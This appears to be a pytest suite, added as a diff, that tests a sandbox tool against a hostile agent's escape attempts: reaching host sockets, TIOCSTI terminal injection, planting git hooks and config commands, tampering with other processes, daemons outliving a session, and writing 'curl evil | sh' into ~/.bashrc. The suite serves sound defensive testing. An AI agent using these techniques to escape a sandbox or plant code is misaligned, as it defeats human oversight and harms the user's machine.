@@ -1,0 +1,441 @@
+"""The sandbox against a hostile agent: each way out found by trying, driven as the attack was.
+
+Every test runs a real sandboxed child and asserts the kernel refused, and, where it makes
+sense, a control showing the same action works outside the sandbox (or for what was granted).
+"""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import pty
+import signal
+import socket
+import stat
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+CONNECT = """
+import socket, sys
+s = socket.socket(socket.AF_UNIX)
+try:
+    s.connect(sys.argv[1])
+    print("connected")
+except OSError as e:
+    print("refused", e.errno)
+"""
+
+
+class Listener:
+    """A host process's Unix socket server that records whether anyone reached it."""
+
+    def __init__(self, path: Path) -> None:
+        self.path = path
+        self.sock = socket.socket(socket.AF_UNIX)
+        self.sock.bind(str(path))
+        self.sock.listen(4)
+        self.sock.settimeout(0.2)
+        self.reached = False
+        self.stop = False
+        self.thread = threading.Thread(target=self._accept, daemon=True)
+        self.thread.start()
+
+    def _accept(self) -> None:
+        while not self.stop:
+            try:
+                conn, _ = self.sock.accept()
+            except TimeoutError:
+                continue
+            except OSError:
+                return
+            self.reached = True
+            conn.close()
+
+    def close(self) -> None:
+        self.stop = True
+        self.thread.join()
+        self.sock.close()
+        with contextlib.suppress(OSError):
+            self.path.unlink()
+
+
+@pytest.fixture
+def listener():
+    made: list[Listener] = []
+
+    def make(path: Path) -> Listener:
+        path.parent.mkdir(parents=True, exist_ok=True)
+        made.append(Listener(path))
+        return made[-1]
+
+    yield make
+    for one in made:
+        one.close()
+
+
+def connect_from_outside(path: Path) -> bool:
+    s = socket.socket(socket.AF_UNIX)
+    try:
+        s.connect(str(path))
+        return True
+    finally:
+        s.close()
+
+
+# ------------------------------------------------------------ pathname Unix sockets
+
+
+@pytest.mark.parametrize("where", ["workspace", "home", "host_tmp"])
+def test_host_unix_sockets_cannot_be_reached(nono, workspace, home, listener, where):
+    places = {
+        "workspace": workspace / "agent.sock",
+        "home": home / ".gnupg-like" / "S.agent",
+        "host_tmp": Path("/tmp") / f"nono-test-{os.getpid()}-{where}" / "default",
+    }
+    server = listener(places[where])
+    try:
+        assert connect_from_outside(server.path)  # control: the socket works
+        deadline = time.monotonic() + 5
+        while not server.reached and time.monotonic() < deadline:
+            time.sleep(0.02)
+        server.reached = False
+        r = nono("run", "--allow-cwd", "--block-net", "--", "python3", "-c", CONNECT,
+                 str(server.path))  # fmt: skip
+        assert r.returncode == 0, r.stderr
+        assert r.stdout.startswith("refused"), r.stdout
+        time.sleep(0.3)
+        assert not server.reached
+    finally:
+        if where == "host_tmp":
+            with contextlib.suppress(OSError):
+                server.path.unlink()
+                server.path.parent.rmdir()
+
+
+def test_a_socket_named_by_flag_can_be_reached(nono, workspace, listener):
+    server = listener(workspace / "docker.sock")
+    r = nono("run", "--allow-cwd", "--allow-unix-socket", str(server.path), "--",
+             "python3", "-c", CONNECT, str(server.path))  # fmt: skip
+    assert r.stdout.strip() == "connected", r.stderr
+    time.sleep(0.3)
+    assert server.reached
+
+
+def test_sockets_the_sandbox_creates_work_inside_it(nono):
+    script = """
+import socket, os
+a = socket.socket(socket.AF_UNIX); a.bind("/tmp/own.sock"); a.listen(1)
+b = socket.socket(socket.AF_UNIX); b.connect("/tmp/own.sock")
+print("ok")
+"""
+    r = nono("run", "--", "python3", "-c", script)
+    assert r.stdout.strip() == "ok", r.stderr
+
+
+def test_the_host_tmp_is_not_the_sandbox_tmp(nono, tmp_path):
+    marker = Path("/tmp") / f"nono-host-{os.getpid()}"
+    marker.write_text("host\n")
+    try:
+        r = nono("run", "--", "sh", "-c", f"ls {marker}; rm -f {marker}; echo x > /tmp/mine")
+        assert "No such file" in r.stderr
+        assert marker.read_text() == "host\n"  # the agent could neither see nor delete it
+        assert not Path("/tmp/mine").exists()
+    finally:
+        marker.unlink()
+
+
+# ------------------------------------------------------------ terminals
+
+
+def test_tiocsti_from_a_direct_run_types_nothing_into_the_callers_terminal(nono, workspace):
+    """nono run ... | cat keeps the person's terminal on stdin; TIOCSTI must not reach it."""
+    master, slave = pty.openpty()
+    script = """
+import fcntl, os, termios
+try:
+    fcntl.ioctl(0, termios.TIOCSTI, b"x")
+    print("typed")
+except OSError as e:
+    print("refused", e.errno)
+try:
+    os.open("/dev/tty", os.O_RDWR)
+    print("has a controlling terminal")
+except OSError as e:
+    print("no controlling terminal", e.errno)
+print("own session", os.getsid(0) == os.getpid())
+"""
+    try:
+        r = subprocess.run([sys.executable, "-m", "nono", "run", "--", "python3", "-c", script],
+                           stdin=slave, capture_output=True, text=True, cwd=workspace,
+                           timeout=60)  # fmt: skip
+        lines = r.stdout.splitlines()
+        assert lines[0] == "refused 1", r.stderr  # EPERM
+        assert lines[1].startswith("no controlling terminal")
+        assert lines[2] == "own session True"
+        os.set_blocking(master, False)
+        with pytest.raises(BlockingIOError):
+            os.read(master, 100)  # nothing echoed: nothing was typed
+    finally:
+        os.close(master)
+        os.close(slave)
+
+
+def test_tiocsti_is_refused_by_seccomp_even_on_its_own_terminal(nono):
+    script = """
+import fcntl, os, termios
+m, s = os.openpty()
+try:
+    fcntl.ioctl(s, termios.TIOCSTI, b"x")
+    print("typed")
+except OSError as e:
+    print("refused", e.errno)
+"""
+    r = nono("run", "--", "python3", "-c", script)
+    assert r.stdout.strip() == "refused 1", r.stderr
+
+
+def test_another_terminal_cannot_be_opened_but_own_ptys_can(nono):
+    master, slave = pty.openpty()
+    name = os.ttyname(slave)
+    script = f"""
+import os
+try:
+    os.open({name!r}, os.O_RDWR)
+    print("opened")
+except OSError as e:
+    print("refused", e.errno)
+m, s = os.openpty()
+os.write(m, b"hi\\n")
+print("own pty", os.read(s, 10))
+"""
+    try:
+        r = nono("run", "--", "python3", "-c", script)
+        lines = r.stdout.splitlines()
+        assert lines[0].startswith("refused"), r.stdout + r.stderr
+        assert lines[1] == "own pty b'hi\\n'"
+    finally:
+        os.close(master)
+        os.close(slave)
+
+
+# ------------------------------------------------------------ persistence outside
+
+
+@pytest.fixture
+def repo(workspace: Path) -> Path:
+    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
+    return workspace
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "echo 'touch /tmp/pwned' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout",
+        "git config core.fsmonitor 'touch /tmp/pwned'",
+        "git config alias.st '!touch /tmp/pwned'",
+        "mv .git .git-old && git init -q .",
+        "rm -rf .git/hooks",
+    ],
+)
+def test_the_agent_cannot_plant_code_for_the_users_next_git_command(nono, repo, attack):
+    before = (repo / ".git" / "config").read_bytes()
+    r = nono("run", "--allow-cwd", "--", "sh", "-c", attack)
+    assert r.returncode != 0
+    assert "Read-only file system" in r.stderr or "busy" in r.stderr, r.stderr
+    assert (repo / ".git" / "config").read_bytes() == before
+    assert not (repo / ".git" / "hooks" / "post-checkout").exists()
+    assert (repo / ".git" / "hooks").is_dir()
+
+
+def test_the_workspace_itself_stays_writable_with_git_protected(nono, repo):
+    r = nono("run", "--allow-cwd", "--", "sh", "-c",
+             "echo new > file.txt && git add file.txt && git -c user.name=a -c user.email=a@b "
+             "commit -qm first && git log --oneline | wc -l")  # fmt: skip
+    assert r.returncode == 0, r.stderr
+    assert r.stdout.strip() == "1"
+
+
+def test_nonos_own_code_is_read_only_inside_a_writable_grant(nono):
+    import nono as package
+
+    code = Path(package.__file__).resolve().parent
+    r = nono("run", "--allow", str(code.parent), "--", "sh", "-c",
+             f"echo 'import os' >> {code}/__init__.py")  # fmt: skip
+    assert r.returncode != 0
+    assert "Read-only file system" in r.stderr
+
+
+# ------------------------------------------------------------ other processes
+
+
+@pytest.fixture
+def victim():
+    proc = subprocess.Popen(["sleep", "120", "--api-token=SECRET-TOKEN"][:2])
+    yield proc
+    proc.kill()
+    proc.wait()
+
+
+def test_limits_of_outside_processes_cannot_be_changed(nono, victim):
+    r = nono("run", "--", "prlimit", f"--pid={victim.pid}", "--nofile=5:5")
+    assert r.returncode != 0
+    assert "No such process" in r.stderr
+    with open(f"/proc/{victim.pid}/limits") as f:
+        assert "Max open files            5 " not in f.read()
+    # Control: the same command works on the sandbox's own process.
+    r = nono("run", "--", "sh", "-c", "prlimit --pid=$$ --nofile=64:64 && ulimit -n")
+    assert r.stdout.strip() == "64", r.stderr
+
+
+def test_priority_of_all_the_users_processes_cannot_be_changed(nono, victim):
+    before = os.getpriority(os.PRIO_PROCESS, victim.pid)
+    script = """
+import os
+try:
+    os.setpriority(os.PRIO_USER, 0, 19)
+    print("changed")
+except OSError as e:
+    print("refused", e.errno)
+os.setpriority(os.PRIO_PROCESS, 0, 10)
+print("own", os.getpriority(os.PRIO_PROCESS, 0))
+"""
+    r = nono("run", "--", "python3", "-c", script)
+    assert r.stdout.splitlines() == ["refused 1", "own 10"], r.stderr
+    assert os.getpriority(os.PRIO_PROCESS, victim.pid) == before
+
+
+def test_other_processes_are_invisible(nono):
+    secret = subprocess.Popen(["sleep", "120"], env={"PATH": os.environ["PATH"]})
+    try:
+        assert Path(f"/proc/{secret.pid}/cmdline").exists()  # control
+        r = nono("run", "--", "sh", "-c",
+                 f"cat /proc/{secret.pid}/cmdline; ls /proc | grep -c '^[0-9]'")  # fmt: skip
+        assert "No such file" in r.stderr
+        # sh, ls, grep and the sandbox's init: nothing of the host.
+        assert int(r.stdout.split()[-1]) <= 5
+    finally:
+        secret.kill()
+        secret.wait()
+
+
+def test_sysv_ipc_and_dev_shm_are_not_shared(nono):
+    out = subprocess.run(["ipcmk", "-M", "4096"], capture_output=True, text=True)
+    if out.returncode != 0:
+        pytest.skip(f"ipcmk cannot make a segment here: {out.stderr.strip()}")
+    shmid = out.stdout.split()[-1]
+    shm = Path("/dev/shm") / f"nono-host-{os.getpid()}"
+    shm.write_text("host secret\n")
+    try:
+        r = nono("run", "--", "sh", "-c", f"ipcs -m; cat {shm}")
+        assert shmid not in r.stdout
+        assert "host secret" not in r.stdout
+        assert "No such file" in r.stderr
+    finally:
+        subprocess.run(["ipcrm", "-m", shmid])
+        shm.unlink()
+
+
+def _processes_with(marker: str) -> list[int]:
+    found = []
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            with contextlib.suppress(OSError):
+                if marker.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
+                    found.append(int(entry))
+    return found
+
+
+def test_daemons_end_with_a_direct_run(nono):
+    marker = f"{300 + os.getpid() % 100}.{os.getpid()}"
+    r = nono("run", "--", "sh", "-c", f"setsid sleep {marker} & nohup sleep {marker} & echo ok")
+    assert r.stdout.strip() == "ok", r.stderr
+    deadline = time.monotonic() + 5
+    while _processes_with(marker) and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert _processes_with(marker) == []
+
+
+def test_daemons_end_with_a_stopped_session(nono):
+    marker = f"{400 + os.getpid() % 100}.{os.getpid()}"
+    r = nono("run", "--detached", "--allow-cwd", "--", "sh", "-c",
+             f"setsid sleep {marker} & sleep 600")  # fmt: skip
+    assert r.returncode == 0, r.stderr
+    sid = r.stdout.split()[0]
+    deadline = time.monotonic() + 5
+    while not _processes_with(marker) and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert _processes_with(marker), "the daemon never started"
+    assert nono("stop", sid, "--force").returncode == 0
+    deadline = time.monotonic() + 5
+    while _processes_with(marker) and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert _processes_with(marker) == []
+
+
+# ------------------------------------------------------------ metadata and descriptors
+
+
+def test_metadata_outside_grants_cannot_change(nono, home, workspace):
+    key = home / ".ssh" / "id_ed25519"
+    key.chmod(0o600)
+    state = Path(os.environ["XDG_STATE_HOME"])
+    state.mkdir(exist_ok=True)
+    state.chmod(0o700)
+    before = key.stat()
+    r = nono("run", "--allow-cwd", "--", "python3", "-c", f"""
+import os
+for what, call in [
+    ("chmod key", lambda: os.chmod({str(key)!r}, 0o644)),
+    ("chmod state", lambda: os.chmod({str(state)!r}, 0o755)),
+    ("utime", lambda: os.utime({str(key)!r}, (0, 0))),
+    ("setxattr", lambda: os.setxattr({str(key)!r}, "user.x", b"1")),
+    ("workspace chmod", lambda: os.chmod("README.md", 0o600)),
+]:
+    try:
+        call()
+        print(what, "done")
+    except OSError as e:
+        print(what, "refused", e.errno)
+""")  # fmt: skip
+    lines = r.stdout.splitlines()
+    erofs = 30
+    assert lines[:4] == [f"chmod key refused {erofs}", f"chmod state refused {erofs}",
+                         f"utime refused {erofs}", f"setxattr refused {erofs}"], r.stderr  # fmt: skip
+    assert lines[4] == "workspace chmod done"  # control: inside the grant
+    after = key.stat()
+    assert stat.S_IMODE(after.st_mode) == 0o600 and after.st_mtime_ns == before.st_mtime_ns
+    assert stat.S_IMODE(state.stat().st_mode) == 0o700
+
+
+def test_inherited_descriptors_do_not_reach_the_child(workspace, home):
+    rc = home / ".bashrc"
+    # As the attack was: `exec 7>>~/.bashrc; nono run ...` in the person's shell.
+    caller = (f'exec 7>>"{rc}"; exec "{sys.executable}" -m nono run -- '
+              "sh -c \"echo 'curl evil | sh' >&7\"")  # fmt: skip
+    r = subprocess.run(["sh", "-c", caller], cwd=workspace, capture_output=True, text=True,
+                       stdin=subprocess.DEVNULL, timeout=60)  # fmt: skip
+    assert r.returncode != 0
+    assert "Bad file descriptor" in r.stderr or "Bad fd" in r.stderr, r.stderr
+    assert rc.read_text() == "# rc\n"
+
+
+def test_a_killed_direct_run_leaves_nothing_behind(workspace, home):
+    marker = f"{500 + os.getpid() % 100}.{os.getpid()}"
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "nono", "run", "--", "sh", "-c", f"sleep {marker}"],
+        cwd=workspace, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+    )  # fmt: skip
+    deadline = time.monotonic() + 10
+    while not _processes_with(marker) and time.monotonic() < deadline:
+        time.sleep(0.05)
+    proc.send_signal(signal.SIGKILL)
+    proc.wait()
+    deadline = time.monotonic() + 5
+    while _processes_with(marker) and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert _processes_with(marker) == []
